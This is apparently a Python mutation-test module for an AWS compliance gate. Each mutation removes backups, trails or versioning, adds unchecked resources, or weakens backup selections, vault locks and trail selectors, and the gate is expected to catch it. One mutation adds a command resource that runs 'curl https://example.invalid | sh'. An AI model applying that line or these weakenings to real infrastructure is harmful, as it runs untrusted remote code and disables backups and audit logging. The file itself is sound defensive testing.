"""Weakenings that remove a control altogether or add what no check reads (issue: a verdict a CISO can sign):
absence must fail, unknown must not pass. Each must be killed (a presence check, GCJP_AWS_72, or a check of a
mandatory requirement, whatever its severity)."""

from __future__ import annotations

from tests.mutation.edits import add, drop, find, one
from tests.mutation.harness import Mutation

STG, PROD = "131121-stg", "131121-prod"
GATE_MUTATIONS: list[Mutation] = []


def mutation(mid: str, stack: str = STG):
    def register(fn):
        GATE_MUTATIONS.append(Mutation(mid, stack, (fn.__doc__ or "").strip(), fn))
        return fn
    return register


def _backup_of(p, system: str) -> list:
    return [r for r in p.resources if r.type.startswith("aws:backup/") and f"-{system}-backup" in r.name]


@mutation("absence-a-systems-backup-removed", PROD)
def _(p):
    """One system (senkyo) has no backup plan, selection or vault at all."""
    drop(p, *_backup_of(p, "senkyo"))


@mutation("absence-every-backup-removed")
def _(p):
    """No backup plan at all in the tenancy."""
    drop(p, *[r for r in p.resources if r.type.startswith("aws:backup/")])


@mutation("absence-a-system-accounts-trail-removed", PROD)
def _(p):
    """The trail of one system account is gone (and with it its log group and alarms)."""
    trail = one(p, "aws:cloudtrail/trail:Trail", "-audit-210000000103-")
    drop(p, trail)


@mutation("absence-archive-versioning-removed")
def _(p):
    """The log archive bucket has no versioning resource (only a medium-severity check reads it)."""
    drop(p, one(p, "aws:s3/bucketVersioning:BucketVersioning", "-logs-archive-"))


@mutation("unchecked-another-providers-resource")
def _(p):
    """A resource of another provider (it could run anything) is added beside the tenancy."""
    like = one(p, "aws:ec2/vpc:Vpc")
    add(p, like, "command:local:Command", "mutant-local-command", {"create": "curl https://example.invalid | sh"})


@mutation("unchecked-aws-type")
def _(p):
    """An AWS resource type no check reads is added."""
    like = one(p, "aws:ec2/vpc:Vpc")
    add(p, like, "aws:appfabric/appBundle:AppBundle", "mutant-bundle", {})


@mutation("unchecked-client-vpn-endpoint")
def _(p):
    """A Client VPN endpoint (an entry into the VPC from the internet) is added; CKV2_AWS_5 only lists its type as
    something a security group may be attached to, which judged nothing about it (review G-11)."""
    like = one(p, "aws:ec2/vpc:Vpc")
    add(p, like, "aws:ec2clientvpn/endpoint:Endpoint", "mutant-client-vpn",
        {"serverCertificateArn": "arn:aws:acm:ap-northeast-1:210000000101:certificate/x",
         "clientCidrBlock": "10.99.0.0/22", "securityGroupIds": ["sg-0123456789abcdef0"],
         "authenticationOptions": [{"type": "certificate-authentication",
                                    "rootCertificateChainArn": "arn:aws:acm:ap-northeast-1:210000000101:certificate/y"}],
         "connectionLogOptions": {"enabled": False}})


def _selection(p, system: str):
    return one(p, "aws:backup/selection:Selection", f"-{system}-backup")


@mutation("backup-selection-names-an-unrelated-resource", PROD)
def _(p):
    """juki's backup selection picks no tag, only the ARN of a table that is not juki's (review G-6)."""
    sel = _selection(p, "juki")
    sel.inputs["selectionTags"] = []
    sel.inputs["resources"] = ["arn:aws:dynamodb:ap-northeast-1:210000000101:table/none"]


@mutation("backup-selection-excludes-everything", PROD)
def _(p):
    """juki's backup selection keeps its tag but excludes every resource (not_resources ["*"]) (review G-6)."""
    _selection(p, "juki").inputs["notResources"] = ["*"]


@mutation("backup-selection-condition-contradicts-its-tag", PROD)
def _(p):
    """juki's backup selection adds a condition that leaves out everything tagged juki (review G-6)."""
    _selection(p, "juki").inputs["condition"] = {
        "stringNotEquals": [{"key": "aws:ResourceTag/gcbase:system", "value": "juki"}]}


LOCK = "aws:backup/vaultLockConfiguration:VaultLockConfiguration"


@mutation("backup-vault-lock-one-day", PROD)
def _(p):
    """Both juki vault locks keep recovery points for one day only (review G-8)."""
    for lock in find(p, LOCK, "-juki-backup"):
        lock.inputs["minRetentionDays"] = 1


@mutation("backup-vault-lock-governance-mode", PROD)
def _(p):
    """juki's vault lock has no cooling-off period: governance mode, removable by a privileged user (review G-8)."""
    lock = one(p, LOCK, "-juki-backup")
    del lock.inputs["changeableForDays"]


@mutation("trail-advanced-selectors-data-only", PROD)
def _(p):
    """The trail of juki's account logs through advanced event selectors naming S3 data events only: no
    management event (the account's API activity) is recorded (review G-7)."""
    trail = one(p, "aws:cloudtrail/trail:Trail", "-audit-210000000101-")
    trail.inputs.pop("eventSelectors", None)
    trail.property_dependencies.pop("eventSelectors", None)
    trail.inputs["advancedEventSelectors"] = [{"name": "data only", "fieldSelectors": [
        {"field": "eventCategory", "equals": ["Data"]}, {"field": "resources.type", "equals": ["AWS::S3::Object"]}]}]
